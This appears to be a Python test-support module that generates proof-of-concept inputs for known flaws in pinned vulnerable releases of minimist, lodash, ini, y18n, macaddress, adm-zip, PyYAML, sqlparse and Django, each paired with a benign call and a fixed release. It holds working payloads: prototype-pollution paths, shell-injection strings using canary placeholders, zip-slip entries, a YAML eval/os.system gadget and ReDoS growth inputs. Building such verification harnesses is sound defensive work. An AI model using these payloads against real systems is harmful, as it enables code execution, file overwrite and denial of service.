"""Proofs of the calls form for real packages: several ways to the same flaw, through other entries and arguments."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

Json = Any
PROOFS = Path(__file__).resolve().parents[1] / "proofs"


def shipped(name: str) -> dict[str, Json]:
    """A proof document of samples/proofs/."""
    document: dict[str, Json] = json.loads((PROOFS / f"{name}.json").read_text(encoding="utf-8"))["proof"]
    return document


def _call(entry: str, *args: Json, **more: Json) -> dict[str, Json]:
    return {"call": entry, "args": list(args), **more}


def _on(receiver: int, method: str, *args: Json, **more: Json) -> dict[str, Json]:
    return {"on": receiver, "method": method, "args": list(args), **more}


def document(kind: str, language: str, steps: list[Json], benign: list[Json], **more: Json) -> dict[str, Json]:
    """A proof document of the calls form."""
    head = {"levee": "proof/1", "form": "calls", "kind": kind, "language": language}
    return head | {"steps": steps, "benign": benign} | more


def _pollution(steps: list[Json], benign: list[Json]) -> dict[str, Json]:
    return document("prototype_pollution", "javascript", steps, benign)


def _minimist() -> Iterator[dict[str, Json]]:
    benign = [_call("minimist", ["--port", "80"])]
    for args in (
        [["--__proto__.{{K}}={{V}}"]],
        [["--constructor.prototype.{{K}}", "{{V}}"]],
        [["--a.b", "1", "--a.__proto__.{{K}}", "{{V}}"]],
        [["--name", "{{V}}"], {"alias": {"name": "__proto__.{{K}}"}}],
        [[], {"default": {"__proto__.{{K}}": "{{V}}"}}],
    ):
        yield _pollution([_call("minimist", *args)], benign)


def _lodash_defaults() -> Iterator[dict[str, Json]]:
    crafted = {"constructor": {"prototype": {"{{K}}": "{{V}}"}}}
    for entry, args in (
        ("lodash:defaultsDeep", [{"colour": "blue"}, crafted]),
        ("lodash:defaultsDeep", [{}, {"size": {"width": 3}}, crafted]),
        ("lodash/defaultsDeep", [{}, crafted]),
    ):
        yield _pollution([_call(entry, *args)], [_call(entry, {"a": 1}, {"b": 2}, returns={"a": 1, "b": 2})])


def _lodash_set() -> Iterator[dict[str, Json]]:
    path = "__proto__.{{K}}"
    zipped = [_call("lodash:zipObjectDeep", ["a.b"], [1], returns={"a": {"b": 1}})]
    yield _pollution([_call("lodash:zipObjectDeep", [path], ["{{V}}"])], zipped)
    yield _pollution([_call("lodash:zipObjectDeep", ["x", "constructor.prototype.{{K}}"], [1, "{{V}}"])], zipped)
    for entry in ("lodash:set", "lodash:setWith", "lodash/set"):
        benign = [_call(entry, {}, "a.b", 1, returns={"a": {"b": 1}})]
        yield _pollution([_call(entry, {}, ["__proto__", "{{K}}"] if "With" in entry else path, "{{V}}")], benign)


def _ini() -> Iterator[dict[str, Json]]:
    for entry, text in (
        ("ini:decode", "[__proto__]\n{{K}} = {{V}}\n"),
        ("ini:parse", "; settings\nuser = ada\n\n[__proto__]\n{{K}}={{V}}"),
        ("ini:parse", "[paths]\nroot = /srv\n[__proto__]\n{{K}} = {{V}}\n[other]\nx = y"),
    ):
        yield _pollution([_call(entry, text)], [_call(entry, "a = 1", returns={"a": "1"})])


def _y18n() -> Iterator[dict[str, Json]]:
    def benign(*methods: str) -> list[Json]:
        calls = {"setLocale": ["en"], "updateLocale": [{"hello": "hallo"}]}
        return [_call("y18n", {"updateFiles": False}), *(_on(0, method, *calls[method]) for method in methods)]

    yield _pollution(
        [_call("y18n", {"updateFiles": False, "locale": "__proto__"}), _on(0, "updateLocale", {"{{K}}": "{{V}}"})],
        benign("updateLocale"),
    )
    yield _pollution(
        [
            _call("y18n", {"updateFiles": False, "locale": "de"}),
            _on(0, "setLocale", "__proto__"),
            _on(0, "updateLocale", {"greeting": "moin", "{{K}}": "{{V}}"}),
        ],
        benign("setLocale", "updateLocale"),
    )


def _macaddress() -> Iterator[dict[str, Json]]:
    for name in ("eth0; {{CANARY}} {{TOKEN}}; #", "$({{CANARY}} {{TOKEN}})", "lo/address || {{CANARY}} {{TOKEN}} #"):
        steps = [_call("macaddress:one", name, {"$noop": True})]
        yield document("command", "javascript", steps, [_call("macaddress:one", "lo", {"$noop": True})])


def _adm_zip() -> Iterator[dict[str, Json]]:
    good = {"$zip": [{"name": "a.txt", "text": "hello"}]}
    for members in (
        [{"name": "{{OUTREL}}", "text": "{{TOKEN}}"}],
        [{"name": "readme.txt", "text": "read me"}, {"name": "{{OUTREL}}", "text": "note {{TOKEN}}\n"}],
        [{"name": "docs/../{{OUTREL}}", "text": "{{TOKEN}}"}],
    ):
        steps = [
            {"new": "adm-zip", "args": [{"$zip": members}]},
            _on(0, "extractAllTo", "{{INSIDE}}", True, trusted=[0]),
        ]
        benign = [{"new": "adm-zip", "args": [good]}, _on(0, "extractAllTo", "{{INSIDE}}", True, trusted=[0])]
        yield document("file_outside", "javascript", steps, benign)


_YAML_CALL = "!!python/object/new:tuple\n- !!python/object/new:map\n  - !!python/name:{callee}\n  - [{argument}]\n"


def _pyyaml() -> Iterator[dict[str, Json]]:
    evaluated = _YAML_CALL.format(callee="eval", argument="\"__import__('os').system('{{CANARY}} {{TOKEN}}')\"")
    loader = {"Loader": {"$name": "yaml:FullLoader"}}
    for entry, more in (("yaml:full_load", {}), ("yaml:load", {"kwargs": loader})):
        benign = [_call(entry, "a: 1", **more, returns={"a": 1})]
        yield document("command", "python", [_call(entry, evaluated, **more)], benign)
    nested = "settings:\n  colour: blue\n  extra: " + evaluated.replace("\n", "\n    ")
    yield document("command", "python", [_call("yaml:full_load", nested)], [_call("yaml:full_load", "[]", returns=[])])


def _sqlparse() -> Iterator[dict[str, Json]]:
    for before, after, options in (
        ("select a from b /* one", "*/ where c", {"strip_comments": True, "reindent": True}),
    ):
        grown = {"$grow": {"before": before, "unit": "\r\n", "after": after}}
        steps = [_call("sqlparse:format", grown, kwargs=options)]
        benign = [_call("sqlparse:format", "select 1", kwargs=options)]
        yield document("growth", "python", steps, benign, repeats=27)


def _django() -> Iterator[dict[str, Json]]:
    for before in ("see example.org",):
        steps = [_call("django.utils.html:urlize", {"$grow": {"before": before, "unit": ".;"}})]
        benign = [_call("django.utils.html:urlize", "plain words", returns="plain words")]
        yield document("growth", "python", steps, benign, repeats=110_000)


FLAWS: dict[str, tuple[str, str, str, Any]] = {
    # flaw: target, a release without it, the shipped proof, further ways to it
    "minimist": ("npm:minimist@0.0.8", "1.2.8", "minimist", _minimist),
    "lodash-defaults": ("npm:lodash@4.17.11", "4.17.21", "lodash", _lodash_defaults),
    "lodash-set": ("npm:lodash@4.17.11", "4.17.21", "", _lodash_set),
    "ini": ("npm:ini@1.3.5", "1.3.8", "ini", _ini),
    "y18n": ("npm:y18n@4.0.0", "4.0.3", "y18n", _y18n),
    "macaddress": ("npm:macaddress@0.2.8", "0.2.9", "macaddress", _macaddress),
    "adm-zip": ("npm:adm-zip@0.4.7", "0.5.16", "adm-zip", _adm_zip),
    "pyyaml": ("pypi:PyYAML@5.3.1", "5.4.1", "pyyaml", _pyyaml),
    "sqlparse": ("pypi:sqlparse@0.4.1", "0.4.2", "sqlparse", _sqlparse),
    "django": ("pypi:Django@4.2.14", "4.2.15", "django-urlize", _django),
}


def ways(flaw: str) -> list[dict[str, Json]]:
    """Proof documents of one flaw; the shipped one first where there is one."""
    _, _, name, more = FLAWS[flaw]
    first = [shipped(name)] if name else []
    return first + list(more())
